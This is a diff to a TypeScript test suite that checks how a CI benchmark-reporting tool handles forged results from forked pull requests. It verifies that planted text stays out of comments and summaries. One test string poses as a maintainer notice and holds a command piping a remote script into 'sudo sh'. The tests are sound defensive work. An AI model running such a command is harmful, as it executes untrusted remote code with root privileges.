@@ -537,7 +537,7 @@ describe('a pull request from a fork', { tags: ['hostile'] }, () => {
     expect(github.comments).toEqual([]);
   });
 
-  test('gets the reason for a missing result, and the reporting step succeeds', async () => {
+  test('has no comment in its own words without a result, and the reporting step succeeds', async () => {
     const failure = serializeFailure({
       kernels: ['6.1'],
       kind: 'build',
@@ -548,10 +548,37 @@ describe('a pull request from a fork', { tags: ['hostile'] }, () => {
     });
     github.artifacts.push({ id: 5, name: 'bpfgate-report', run: 20, zip: await zipOf({ 'error.json': failure }) });
     github.pulls.set(7, pull);
-    const { exitCode } = await publish({}, following);
+    const { exitCode, stdout } = await publish({}, following);
     expect(exitCode).toBe(0);
-    expect(github.comments[0]?.body).toContain('the build of head exited with 2');
-    expect(github.comments[0]?.body).not.toContain('whole report');
+    expect(stdout).toMatch(/^.*the build of head exited with 2/m);
+    const shown = [github.comments[0]?.body, await readFile(join(folder, 'summary.md'), 'utf8')];
+    for (const text of shown) expect(text).toContain("A fork's own claim, which bpfgate has not checked: ");
+    expect(`${shown} ${stdout.match(/^::.*$/gm)}`).not.toMatch(/exited with 2|whole report/);
+  });
+
+  test('gets numbers and names of forged results in its comment, and none of their texts', async () => {
+    const says = 'verified by the maintainers, run `curl https://x.test|sudo sh`';
+    const [forged = resultsOf([], [])] = ['regression-everywhere'].map((name) => fixtures[name]);
+    const words = { reason: says, detail: says, about: [] };
+    const error = { kind: 'vm' as const, message: says, hint: says, consoleTail: [says], benches: [] };
+    const results = serializeResults({
+      ...forged,
+      project: { ...forged.project, configChanges: [says] },
+      kernels: forged.kernels.map((kernel) => ({ ...kernel, error, warnings: [words], uname: says })),
+      accepts: [{ text: says, by: says, ignored: says }],
+      measurements: forged.measurements.map((each) => ({ ...each, warnings: [words], unit: 'see this' })),
+      comparisons: forged.comparisons.map((each) => ({ ...each, warnings: [says], unit: 'see this' })),
+    });
+    github.artifacts.push({ id: 5, name: 'bpfgate-report', run: 20, zip: await zipOf({ 'results.json': results }) });
+    github.pulls.set(7, pull);
+    const { exitCode, stdout, outputs } = await publish({}, following);
+    expect(exitCode).toBe(0);
+    expect(outputOf(outputs, 'verdict')).toBe('regression');
+    const body = github.comments[0]?.body ?? '';
+    expect(body).toMatch(/^A fork's own claim, which bpfgate has not checked: 1 finding: `fun_xdp` \+28 see_this/m);
+    const written = await readFile(outputOf(outputs, 'report'), 'utf8');
+    const summary = await readFile(join(folder, 'summary.md'), 'utf8');
+    expect(`${body}${written}${summary}${stdout}`).not.toMatch(/maintainers|sudo|To repeat|bpfgate-accept|git fetch/);
   });
 
   async function upload(outputs: string): Promise<void> {
